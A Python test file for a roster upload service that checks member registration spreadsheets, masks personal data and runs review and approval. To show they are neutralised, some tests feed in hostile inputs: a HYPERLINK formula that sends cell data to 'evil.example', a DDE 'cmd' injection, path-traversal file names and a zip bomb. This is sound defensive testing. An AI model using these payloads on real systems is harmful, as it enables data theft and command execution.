"""The roster service: uploads of every kind, findings, the annotated copy, and the way to approval."""

from __future__ import annotations

import io
import threading
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from personalize.intake import Limits
from reader_service.errors import (
    Conflict,
    Forbidden,
    Invalid,
    NotFound,
    OwnWork,
    RequestTooLarge,
    TooMany,
    Unavailable,
    UnreadableForm,
)
from reader_service.principal import Principal, Role
from reader_service.services.issuing.rosters import RosterService
from reader_service.services.uploads import FORMS, Uploads, pieces
from registry.batches.reviews import ChangeKind
from registry.errors import RegistryUnavailable
from registry.ranges import RangeKind, RangeUse, SerialRange
from registry.values import BatchState
from tests.support import forms
from tests.support.forms import UNIT, person
from tests.support.service.registry_rig import AUDITOR, CLERK, COUNTER, NOBODY, REVIEWER, RegistryRig, last_audit_entry
from tests.support.waiting import PATIENCE

GOOD, BAD = [person(1), person(2)], person(3, phone="")


@pytest.fixture
def service(rig: RegistryRig) -> RosterService:
    return RosterService(rig.parts, rig.bus)


def form(tmp_path: Path, *people: list[object], name: str = "form.xlsx") -> bytes:
    return forms.xlsx(tmp_path / name, forms.form(*people)).read_bytes()


def test_a_form_becomes_a_draft_and_its_returned_rows_are_reported(
    rig: RegistryRig, service: RosterService, tmp_path: Path
) -> None:
    content = form(tmp_path, *GOOD, BAD)
    view = service.upload(CLERK, "会员登记表.xlsx", pieces(io.BytesIO(content).read, 1000))

    assert view.batch is not None
    assert (view.unit, view.accepted, view.rejected, view.counts) == (UNIT, 2, 1, {"PHONE_MISSING": 1})
    assert (view.batch.state, view.batch.imported_by, view.batch.source) == (
        BatchState.DRAFT,
        "李娜",
        "会员登记表.xlsx",
    )
    (finding,) = view.findings
    assert (finding.sheet_row, finding.codes, finding.name_masked) == (6, ("PHONE_MISSING",), "孙**")
    assert (finding.reason_zh, finding.reason_en) == ("没有填写手机号码。", "the mobile number is missing.")
    assert rig.bus.of("batch.changed")[-1].topic == view.batch.id
    assert rig.registry.originals.of(view.batch.id).content == content


def test_findings_come_masked_and_in_pages(service: RosterService, tmp_path: Path) -> None:
    batch = service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD, BAD)]).batch
    assert batch is not None
    first = service.findings(AUDITOR, batch.id, None, 2)
    assert [one.accepted for one in first.items] == [True, True]
    assert (first.items[0].name_masked, first.items[0].mobile_masked) == ("孙**", "*******4135")
    (last,) = service.findings(REVIEWER, batch.id, first.next, 2).items
    assert (last.accepted, last.reason_en) == (False, "the mobile number is missing.")
    assert service.findings(REVIEWER, batch.id, only="rejected").items == (last,)
    with pytest.raises(Invalid):
        service.findings(REVIEWER, batch.id, "nonsense")
    with pytest.raises(NotFound):
        service.findings(REVIEWER, "B20261122-999")


def test_the_annotated_copy_has_the_findings_of_the_upload(
    rig: RegistryRig, service: RosterService, tmp_path: Path
) -> None:
    batch = service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD, BAD, person(1))]).batch
    assert batch is not None
    copy = service.annotated(CLERK, batch.id)
    sheet = load_workbook(io.BytesIO(copy.content)).worksheets[0]
    assert copy.filename == "form-审核.xlsx"
    assert [sheet.cell(row, 7).value for row in range(3, 8)] == ["审核结果", "通过", "通过", "退回", "退回"]
    assert "重复" in str(sheet.cell(7, 8).value)
    assert last_audit_entry(rig.registry)[:3] == ("李娜", "roster.download", f"batch:{batch.id}")
    service.discard(CLERK, batch.id, "wrong unit")
    with pytest.raises(NotFound, match="no uploaded form"):
        service.annotated(CLERK, batch.id)


def test_a_form_of_which_nobody_passes_is_reported_and_not_stored(
    rig: RegistryRig, service: RosterService, tmp_path: Path
) -> None:
    content = form(tmp_path, BAD)
    view = service.upload(CLERK, "form.xlsx", [content])
    assert (view.batch, view.rejected) == (None, 1)
    assert (rig.registry.batches.all(), rig.bus.events) == ([], [])
    sheet = load_workbook(io.BytesIO(service.check(CLERK, "form.xlsx", [content]).content)).worksheets[0]
    assert sheet.cell(4, 7).value == "退回"


def test_formulas_of_a_form_do_not_come_back(service: RosterService, tmp_path: Path) -> None:
    evil = person(1)
    evil[2] = '=HYPERLINK("http://evil.example/?"&B4,"孙波磊")'
    sheet = load_workbook(
        io.BytesIO(service.check(CLERK, "f.xlsx", [form(tmp_path, evil, person(2))]).content)
    ).worksheets[0]
    assert [cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    text = forms.text(tmp_path / "f.csv", forms.form([1, "=cmd|' /C calc'!A0", *person(1)[2:]])).read_bytes()
    book = load_workbook(io.BytesIO(service.check(CLERK, "f.csv", [text]).content))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if str(cell.value).startswith("=")]
    assert [(cell.data_type, cell.quotePrefix) for cell in cells] == [("s", True)]


@pytest.mark.parametrize(
    "name",
    ["", "  ", "..", "../form.xlsx", "/etc/form.xlsx", "C:\\form.xlsx", "a\0b.xlsx", "a\nb.xlsx", "表" * 61 + ".xlsx"],
)
def test_a_name_that_names_a_place_is_refused(name: str, service: RosterService, tmp_path: Path) -> None:
    with pytest.raises(Invalid) as caught:
        service.upload(CLERK, name, [form(tmp_path, *GOOD)])
    assert list(caught.value.fields) == ["file"]


def test_what_is_no_form_is_refused_in_both_languages(service: RosterService, tmp_path: Path) -> None:
    workbook = form(tmp_path, *GOOD)
    macros = io.BytesIO(workbook)
    with zipfile.ZipFile(macros, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\0")
    bad = {
        "form.xlsm": (macros.getvalue(), "has macros", "含有宏"),
        "form.pdf": (b"%PDF-1.7", "is a PDF file", "这是PDF"),
        "form.xlsx": (workbook[:-200], "damaged", "损坏"),
        "form.csv": (b"a,b\n1,2\n", "header|columns", "表头"),
        "empty.csv": (b"", "empty", "空"),
    }
    for name, (content, english, chinese) in bad.items():
        with pytest.raises(UnreadableForm, match=english) as caught:
            service.upload(CLERK, name, [content])
        assert chinese in str(caught.value.params["chinese"])
        assert chinese not in str(caught.value)


def test_what_is_too_large_is_refused_before_it_is_read(rig: RegistryRig, tmp_path: Path) -> None:
    taken: list[int] = []

    def endless() -> object:
        while True:
            taken.append(1)
            yield b"x" * 1000

    small = RosterService(rig.parts, rig.bus, uploads=Uploads(Limits(file_bytes=10_000)))
    with pytest.raises(RequestTooLarge, match="larger than"):
        small.upload(CLERK, "form.csv", endless())  # type: ignore[arg-type]
    assert len(taken) == 11
    bomb = io.BytesIO(form(tmp_path, *GOOD))
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/bomb.xml", b"\0" * (FORMS.unpacked_bytes + 1))
    with pytest.raises(RequestTooLarge, match="unpacks") as caught:
        RosterService(rig.parts, rig.bus).upload(CLERK, "form.xlsx", [bomb.getvalue()])
    assert "解压" in str(caught.value.params["chinese"])


def test_only_so_many_forms_are_read_at_once(rig: RegistryRig, tmp_path: Path) -> None:
    service = RosterService(rig.parts, rig.bus, uploads=Uploads(at_once=1, patience=0.05))
    content = form(tmp_path, *GOOD)
    inside, go_on = threading.Event(), threading.Event()

    def slow() -> object:
        inside.set()
        go_on.wait(PATIENCE)
        yield content

    first = threading.Thread(target=service.upload, args=(CLERK, "form.xlsx", slow()))
    first.start()
    inside.wait(PATIENCE)
    with pytest.raises(TooMany) as caught:
        service.upload(CLERK, "form.xlsx", [content])
    assert caught.value.retry_after > 0
    go_on.set()
    first.join()
    assert len(rig.registry.batches.all()) == 1


def test_nothing_of_an_upload_is_left_behind(
    service: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    where = tmp_path / "tmp"
    where.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(where))
    service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)])
    with pytest.raises(UnreadableForm):
        service.upload(CLERK, "form.xlsx", [b"PK"])
    assert list(where.iterdir()) == []


def test_the_same_form_twice_makes_one_batch(rig: RegistryRig, service: RosterService, tmp_path: Path) -> None:
    content = form(tmp_path, *GOOD)
    batch = service.upload(CLERK, "form.xlsx", [content]).batch
    assert batch is not None
    with pytest.raises(Conflict, match=f"imported before as {batch.id}"):
        service.upload(CLERK, "again.xlsx", [content])
    assert len(rig.registry.batches.all()) == 1


def test_a_corrected_form_shows_who_is_unchanged_and_who_is_changed(
    rig: RegistryRig, service: RosterService, tmp_path: Path
) -> None:
    first = service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
    assert first is not None
    corrected = [GOOD[0], [*GOOD[1][:4], "18801430000", GOOD[1][5]], forms.person(7)]
    view = service.upload(CLERK, "corrected.xlsx", [form(tmp_path, *corrected)])
    assert (view.accepted, view.rejected, view.unchanged, view.changes) == (1, 0, 1, 1)
    assert view.batch is not None
    assert (view.batch.accepted, view.batch.unchanged, view.batch.changes) == (1, 1, 1)
    rows = service.findings(CLERK, view.batch.id).items
    assert [(row.verdict, row.codes) for row in rows] == [
        ("unchanged", ("UNCHANGED",)),
        ("change", ("PHONE_CHANGED",)),
        ("accepted", ()),
    ]
    assert rows[1].reason_zh == "手机号码与登记资料不同：审核通过后更改。"
    again = service.upload(CLERK, "third.xlsx", [form(tmp_path, GOOD[0], name="other.xlsx")])
    assert (again.batch, again.unchanged, again.accepted) == (None, 1, 0)


def test_a_form_goes_to_review_and_back_and_is_approved_by_another(
    rig: RegistryRig, service: RosterService, tmp_path: Path
) -> None:
    batch = service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
    assert batch is not None
    with pytest.raises(Conflict, match="is not sent for review"):
        service.approve(REVIEWER, batch.id)
    service.submit(CLERK, batch.id)
    with pytest.raises(Conflict, match="already"):
        service.submit(CLERK, batch.id)
    with pytest.raises(Invalid):
        service.give_back(REVIEWER, batch.id, "  ")
    service.give_back(REVIEWER, batch.id, "two of them\nleft")
    service.submit(CLERK, batch.id)
    changes = service.changes(REVIEWER, batch.id).items
    assert [(one.kind, one.name_after, one.name_before) for one in changes] == [(ChangeKind.NEW, "孙**", "")] * 2
    done = service.approve(REVIEWER, batch.id)
    assert (done.state, done.approved_by) == (BatchState.APPROVED, "王芳")
    assert [(one.by, one.step, one.reason) for one in service.reviews(AUDITOR, batch.id)] == [
        ("李娜", "submitted", ""),
        ("王芳", "returned", "two of them left"),
        ("李娜", "submitted", ""),
    ]
    assert [event.data["review"] for event in rig.bus.of("batch.changed")] == [
        None,
        "submitted",
        "returned",
        "submitted",
        None,
    ]


def test_nobody_approves_what_they_imported(rig: RegistryRig, service: RosterService, tmp_path: Path) -> None:
    both = Principal("李 娜", frozenset({Role.REGISTRAR, Role.REVIEWER}))
    batch = service.upload(both, "form.xlsx", [form(tmp_path, *GOOD)]).batch
    assert batch is not None
    service.submit(both, batch.id)
    with pytest.raises(OwnWork):
        service.approve(both, batch.id)
    assert rig.registry.batches.batch(batch.id).state is BatchState.DRAFT


def test_what_is_given_back_while_it_is_approved_is_not_approved(
    rig: RegistryRig, service: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    batch = service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
    assert batch is not None
    service.submit(CLERK, batch.id)
    write = rig.registry._context.database.write

    def after_another_gave_it_back() -> object:
        monkeypatch.setattr(rig.registry._context.database, "write", write)
        rig.registry.reviews.give_back(batch.id, by="赵敏", reason="row 2 is wrong")
        return write()

    monkeypatch.setattr(rig.registry._context.database, "write", after_another_gave_it_back)
    with pytest.raises(Conflict) as caught:
        service.approve(REVIEWER, batch.id)
    assert caught.value.params == {"reason": "batch-not-sent", "batch": batch.id}
    assert rig.registry.batches.batch(batch.id).state is BatchState.DRAFT


def test_every_method_asks_who_it_is(service: RosterService) -> None:
    for who in (NOBODY, COUNTER):
        for call in (
            lambda p: service.upload(p, "f.csv", []),
            lambda p: service.check(p, "f.csv", []),
            lambda p: service.findings(p, "B"),
            lambda p: service.annotated(p, "B"),
            lambda p: service.submit(p, "B"),
            lambda p: service.reviews(p, "B"),
            lambda p: service.changes(p, "B"),
            lambda p: service.change_counts(p, "B"),
            lambda p: service.approve(p, "B"),
            lambda p: service.give_back(p, "B", "why"),
            lambda p: service.discard(p, "B", "why"),
        ):
            with pytest.raises(Forbidden):
                call(who)
    with pytest.raises(Forbidden):
        service.annotated(REVIEWER, "B")


def test_a_database_that_is_away_is_reported_as_such(
    rig: RegistryRig, service: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def away(*_: object, **__: object) -> object:
        raise RegistryUnavailable("postgresql://user:hunter2@host is away")

    monkeypatch.setattr(rig.registry.rosters, "known_members", away)
    with pytest.raises(Unavailable) as caught:
        service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)])
    assert "hunter2" not in str(caught.value)


def test_a_form_is_read_as_the_declared_form_that_was_chosen(
    rig: RegistryRig, service: RosterService, tmp_path: Path
) -> None:
    titles = ("序号", "姓名", "性别", "证件号码", "证件有效期", "手机号码", "工作单位", "学历", "就业状况")
    rows = [
        (1, "孙波磊", 1, forms.id_number(serial=1), "长期", "18801434135", UNIT, 20, 1),
        (2, "孙磊", "2", forms.id_number(serial=2), "长期", "18801434136", UNIT, 99, "1"),
    ]
    content = forms.xlsx(tmp_path / "f.xlsx", [("北京市总工会会员信息登记表",), titles, *rows]).read_bytes()
    with pytest.raises(Invalid) as refused:
        service.upload(CLERK, "f.xlsx", [content], form="../hebei")
    assert refused.value.fields == {"form": "one of hebei, beijing, tianjin"}
    view = service.upload(CLERK, "f.xlsx", [content], form="beijing")
    assert view.batch is not None
    assert (view.accepted, view.counts) == (1, {"FORM_VALUE": 1})
    stored = service.annotated(CLERK, view.batch.id), "通过"
    again = service.check(CLERK, "f.xlsx", [content], form="beijing"), "未变"
    for copy, verdict in (stored, again):
        sheet = load_workbook(io.BytesIO(copy.content)).worksheets[0]
        assert str(sheet.cell(3, 10).value) == verdict
        assert str(sheet.cell(4, 10).value) == "退回"


def full_range(used: int, needed: int) -> RangeUse:
    return RangeUse(RangeKind.CARD, "91561300", 100, used, needed)


def test_a_reviewer_sees_how_full_the_ranges_are_and_cannot_exceed_them(rig: RegistryRig, tmp_path: Path) -> None:
    uses = [full_range(99, 2)]
    room = SerialRange(RangeKind.CARD, "91561300", 1)
    ranges = [room]
    parts = replace(rig.parts, ranges=lambda batch_id: uses, serial_ranges=lambda: ranges)
    service = RosterService(parts, rig.bus)
    batch = service.upload(CLERK, "a.xlsx", pieces(io.BytesIO(form(tmp_path, *GOOD)).read)).batch
    assert batch is not None
    service.submit(CLERK, batch.id)
    assert service.ranges(REVIEWER, batch.id) == uses
    with pytest.raises(Conflict) as refused:
        service.approve(REVIEWER, batch.id)
    assert refused.value.params["reason"] == "card-numbers"
    assert refused.value.params["left"] == 1
    ranges[:] = [replace(room, capacity=2)]
    assert service.approve(REVIEWER, batch.id).state is not BatchState.DRAFT
    assert service.ranges(REVIEWER, batch.id) == ()
    with pytest.raises(Forbidden):
        service.ranges(NOBODY, batch.id)
